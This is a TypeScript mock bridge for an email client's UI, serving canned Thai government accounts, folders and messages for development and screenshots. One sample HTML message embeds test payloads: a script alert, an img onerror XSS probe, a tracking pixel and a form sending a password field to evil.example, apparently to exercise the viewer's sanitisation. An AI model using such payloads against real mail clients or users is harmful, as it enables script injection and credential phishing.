// A FAKE `window.raksa` for looking at the UI without a core: canned Thai accounts, folders and
// messages that follow the contract. A development and screenshot helper only; the real e2e drives the
// real core through the browser host and must never use this in its place.
//
// Use: bundle this file for the browser (esbuild, format iife), call installFakeBridge(window, options)
// from a Playwright init script, and keep the returned controller to push events.
import type { EventName, MethodName } from '../../shared/contract/api.js';
import type { ErrorCode } from '../../shared/contract/result.js';
import type {
  AccountInput,
  AccountSummary,
  AppStatus,
  Folder,
  Locale,
  MessageSummary,
  MessageView,
} from '../../shared/domain/schemas.js';

export interface FakeBridgeOptions {
  /** Start with the demo account (default) or with none, to show the first-run form. */
  withAccounts?: boolean;
  /** Messages in the demo inbox (default 100 000, to exercise the virtual list). */
  inboxSize?: number;
  /** The first accounts.add fails with this code (e.g. AUTH_FAILED) to show the inline error. */
  addAccountError?: ErrorCode;
  /** Milliseconds of simulated latency per call. */
  latencyMs?: number;
  now?: number;
}

export interface FakeBridgeController {
  emit(event: EventName, payload: unknown): void;
  /** Every call made so far, in order (method and args), for checks such as "only visible pages". */
  readonly calls: { method: string; args: unknown }[];
}

type Wire = { ok: true; value: unknown } | { ok: false; error: { code: ErrorCode; message: string } };

const LOGO =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAGAAAAAcCAIAAAARGi3VAAAAWElEQVR42u3ZsREAEAxAURsYwxgms4xtTMUENE6Bl/tlqlflLqHVpEUBAaA9oJiLFgECBAgQIEAfAfXJvLoPCBAgQIAAAQLkUBQgQIAAAboOyGPHXwzQyQaCWNJ18TmasQAAAABJRU5ErkJggg==';

const SENDERS = [
  { name: 'สำนักงานปลัดกระทรวงสาธารณสุข', address: 'saraban@moph.go.th' },
  { name: 'นางสาวพรทิพย์ ศรีสุข', address: 'porntip.s@moph.go.th' },
  { name: 'กองคลัง กรมบัญชีกลาง', address: 'finance@cgd.go.th' },
  { name: 'นายวิชัย ทองดี', address: 'wichai.t@dga.or.th' },
  { name: '', address: 'helpdesk@nectec.or.th' },
  { name: 'ศูนย์เทคโนโลยีสารสนเทศ', address: 'ict-center@mof.go.th' },
  { name: 'ดร.สุภาพร วงศ์ใหญ่', address: 'supaporn.w@mhesi.go.th' },
];

const SUBJECTS = [
  'ขอเชิญประชุมคณะทำงานพัฒนาระบบสารบรรณอิเล็กทรอนิกส์',
  'ด่วนที่สุด: แจ้งเวียนหลักเกณฑ์การเบิกจ่ายงบประมาณ พ.ศ. 2569',
  'สรุปผลการดำเนินงานไตรมาสที่ 1',
  'ขอความอนุเคราะห์ข้อมูลบุคลากรเพื่อจัดทำแผนอัตรากำลัง',
  'แจ้งปิดปรับปรุงระบบเครือข่ายในวันเสาร์นี้',
  'ร่างคำสั่งแต่งตั้งคณะกรรมการตรวจรับพัสดุ',
  'ตอบ: รายงานการประชุมครั้งที่ 3/2569',
  'ขอส่งเอกสารประกอบการฝึกอบรมความมั่นคงปลอดภัยไซเบอร์',
];

const ACCOUNT_1: AccountSummary = {
  id: 1,
  email: 'somchai.j@moph.go.th',
  displayName: 'สมชาย ใจดี',
  imap: { host: 'imap.moph.go.th', port: 993, security: 'tls' },
  smtp: { host: 'smtp.moph.go.th', port: 465, security: 'tls' },
  user: 'somchai.j@moph.go.th',
};

function demoFolders(accountId: number, inboxSize: number): Folder[] {
  const base = accountId * 10;
  const f = (
    n: number,
    path: string,
    name: string,
    specialUse: Folder['specialUse'],
    total: number,
    unread: number,
  ): Folder => ({ id: base + n, accountId, path, name, delimiter: '/', specialUse, total, unread });
  return [
    f(1, 'INBOX', 'INBOX', 'inbox', inboxSize, Math.min(inboxSize, 1284)),
    f(2, 'Drafts', 'Drafts', 'drafts', 3, 0),
    f(3, 'Sent', 'Sent', 'sent', 240, 0),
    f(4, 'Archive', 'Archive', 'archive', 1820, 0),
    f(5, 'Junk', 'Junk', 'junk', 12, 4),
    f(6, 'Trash', 'Trash', 'trash', 57, 0),
    f(7, 'Projects', 'โครงการ', null, 25, 2),
    f(8, 'Projects/Budget2569', 'งบประมาณ 2569', null, 40, 0),
  ];
}

export function installFakeBridge(target: object, options: FakeBridgeOptions = {}): FakeBridgeController {
  const inboxSize = options.inboxSize ?? 100_000;
  const now = options.now ?? Date.now();
  const accounts: AccountSummary[] = options.withAccounts === false ? [] : [ACCOUNT_1];
  const folders = new Map<number, Folder[]>(accounts.map((a) => [a.id, demoFolders(a.id, inboxSize)]));
  const read = new Set<number>();
  let locale: Locale = 'th';
  let addError = options.addAccountError;
  const listeners = new Map<string, Set<(payload: unknown) => void>>();
  const calls: { method: string; args: unknown }[] = [];

  const emit = (event: string, payload: unknown): void => {
    for (const l of listeners.get(event) ?? []) l(payload);
  };
  const folderById = (id: number): Folder | undefined =>
    [...folders.values()].flat().find((f) => f.id === id);

  const summary = (folder: Folder, i: number): MessageSummary => {
    const id = folder.id * 1_000_000 + i + 1;
    const sender = SENDERS[i % SENDERS.length] ?? SENDERS[0]!;
    const subject = SUBJECTS[i % SUBJECTS.length] ?? '';
    return {
      id,
      accountId: folder.accountId,
      folderId: folder.id,
      uid: folder.total - i,
      date: now - i * 47 * 60_000 - 5 * 60_000,
      from: sender,
      subject: i === 5 ? '' : i < SUBJECTS.length ? subject : `${subject} (${i + 1})`,
      unread: !read.has(id) && (i < 3 || i % 7 === 0),
      flagged: i % 11 === 1,
      hasAttachments: i % 4 === 0,
      size: 4_000 + ((i * 7919) % 200_000),
      cached: true,
    };
  };

  const view = (s: MessageSummary, i: number): MessageView => {
    const html =
      i % 2 === 0
        ? `<div style="font-family:Tahoma,sans-serif"><img src="cid:logo@moph.go.th" alt="ตรากระทรวง">
<h2 style="color:#0f3f7d">${s.subject}</h2>
<p>เรียน ผู้อำนวยการทุกสำนัก</p>
<p>ด้วยสำนักงานปลัดกระทรวงสาธารณสุขจะจัดประชุมคณะทำงาน ในวันพุธที่ 3 ธันวาคม 2569 เวลา 09.30 น. ณ ห้องประชุม 1 ชั้น 5
จึงขอเชิญท่านหรือผู้แทนเข้าร่วมประชุมตามวัน เวลา และสถานที่ดังกล่าว</p>
<table border="1" cellpadding="6" style="border-collapse:collapse;background:url(https://tracker.example/bg.png)">
<tr><th>วาระ</th><th>เรื่อง</th></tr><tr><td>1</td><td>เรื่องที่ประธานแจ้งให้ทราบ</td></tr><tr><td>2</td><td>ร่างแนวทางการใช้อีเมลภาครัฐ</td></tr></table>
<p>จึงเรียนมาเพื่อโปรดพิจารณา <a href="https://www.moph.go.th/">www.moph.go.th</a></p>
<img src="https://tracker.example/open.gif?u=somchai" width="1" height="1"><script>alert('x')</script>
<img src="x" onerror="alert(1)"><form action="https://evil.example"><input name="pw"></form>
<p style="color:#5b6472">ขอแสดงความนับถือ<br>${s.from?.name ?? ''}</p></div>`
        : null;
    return {
      summary: { ...s, unread: false },
      messageId: `<${s.id}@fake.invalid>`,
      to: [{ name: ACCOUNT_1.displayName, address: ACCOUNT_1.email }],
      cc: i % 3 === 0 ? [{ name: 'กลุ่มงานสารบรรณ', address: 'saraban-group@moph.go.th' }] : [],
      replyTo: [],
      text: `เรียน คุณสมชาย\n\nตามที่ได้ประสานไว้ ขอส่ง${s.subject}\nรายละเอียดตามไฟล์แนบ https://intranet.moph.go.th/doc/123\n\nขอบคุณครับ\n${s.from?.name ?? ''}`,
      html,
      attachments: s.hasAttachments
        ? [
            {
              index: 0,
              filename: 'หนังสือเชิญประชุม.pdf',
              contentType: 'application/pdf',
              size: 182_344,
              contentId: null,
              inline: false,
            },
            {
              index: 1,
              filename: 'แบบตอบรับ.docx',
              contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
              size: 23_880,
              contentId: null,
              inline: false,
            },
            {
              index: 2,
              filename: 'logo.png',
              contentType: 'image/png',
              size: 196,
              contentId: 'logo@moph.go.th',
              inline: true,
            },
          ]
        : [],
      inlineImages: { 'logo@moph.go.th': LOGO },
    };
  };

  const status = (): AppStatus => ({ connection: 'online', lastError: null, accounts: accounts.length });

  const handlers: Record<MethodName, (args: Record<string, unknown>) => Wire> = {
    'app.status': () => ({ ok: true, value: status() }),
    'settings.getLocale': () => ({ ok: true, value: locale }),
    'settings.setLocale': (a) => {
      locale = a.locale === 'en' ? 'en' : 'th';
      return { ok: true, value: null };
    },
    'accounts.list': () => ({ ok: true, value: accounts }),
    'accounts.add': (a) => {
      if (addError) {
        const code = addError;
        addError = undefined;
        return { ok: false, error: { code, message: 'fake failure' } };
      }
      const input = a as unknown as AccountInput;
      const account: AccountSummary = {
        id: accounts.length + 1,
        email: input.email,
        displayName: input.displayName ?? '',
        imap: input.imap,
        smtp: input.smtp,
        user: input.user,
      };
      accounts.push(account);
      folders.set(account.id, demoFolders(account.id, inboxSize));
      setTimeout(() => emit('accounts.changed', {}), 0);
      return { ok: true, value: account };
    },
    'folders.list': (a) => ({ ok: true, value: folders.get(Number(a.accountId)) ?? [] }),
    'messages.list': (a) => {
      const folder = folderById(Number(a.folderId));
      if (!folder) return { ok: false, error: { code: 'NOT_FOUND', message: 'no folder' } };
      const offset = Number(a.offset ?? 0);
      const limit = Number(a.limit ?? 100);
      const items: MessageSummary[] = [];
      for (let i = offset; i < Math.min(folder.total, offset + limit); i++) items.push(summary(folder, i));
      return { ok: true, value: { total: folder.total, offset, items } };
    },
    'messages.get': (a) => {
      const id = Number(a.id);
      const folder = folderById(Math.floor(id / 1_000_000));
      const i = (id % 1_000_000) - 1;
      if (!folder || i < 0 || i >= folder.total)
        return { ok: false, error: { code: 'NOT_FOUND', message: 'no message' } };
      read.add(id);
      return { ok: true, value: view(summary(folder, i), i) };
    },
    'sync.now': (a) => {
      const accountId = Number(a.accountId);
      let done = 0;
      const total = 1200;
      emit('status.changed', { ...status(), connection: 'syncing' });
      const step = (): void => {
        done = Math.min(total, done + 300);
        emit('sync.progress', {
          accountId,
          folderPath: 'INBOX',
          phase: done < total ? 'headers' : 'done',
          done,
          total,
        });
        if (done < total) setTimeout(step, 400);
        else {
          emit('status.changed', status());
          emit('mailbox.changed', { accountId, folderId: null });
        }
      };
      setTimeout(step, 200);
      return { ok: true, value: null };
    },
    'policy.check': () => ({ ok: true, value: { verdict: 'allow', recipients: [] } }),
  };

  const bridge = Object.freeze({
    call(method: string, args: unknown): Promise<unknown> {
      calls.push({ method, args });
      const handler = (handlers as Record<string, ((a: Record<string, unknown>) => Wire) | undefined>)[
        method
      ];
      const answer: Wire = handler
        ? handler((args ?? {}) as Record<string, unknown>)
        : { ok: false, error: { code: 'UNKNOWN_METHOD', message: method } };
      // Through a JSON round trip, as over the real transports: no shared object references.
      const wire = JSON.parse(JSON.stringify(answer)) as unknown;
      return new Promise((resolve) => setTimeout(() => resolve(wire), options.latencyMs ?? 5));
    },
    on(event: string, listener: (payload: unknown) => void): () => void {
      let set = listeners.get(event);
      if (!set) {
        set = new Set();
        listeners.set(event, set);
      }
      set.add(listener);
      return () => {
        set.delete(listener);
      };
    },
  });
  Object.defineProperty(target, 'raksa', {
    value: bridge,
    enumerable: true,
    configurable: false,
    writable: false,
  });
  return { emit, calls };
}
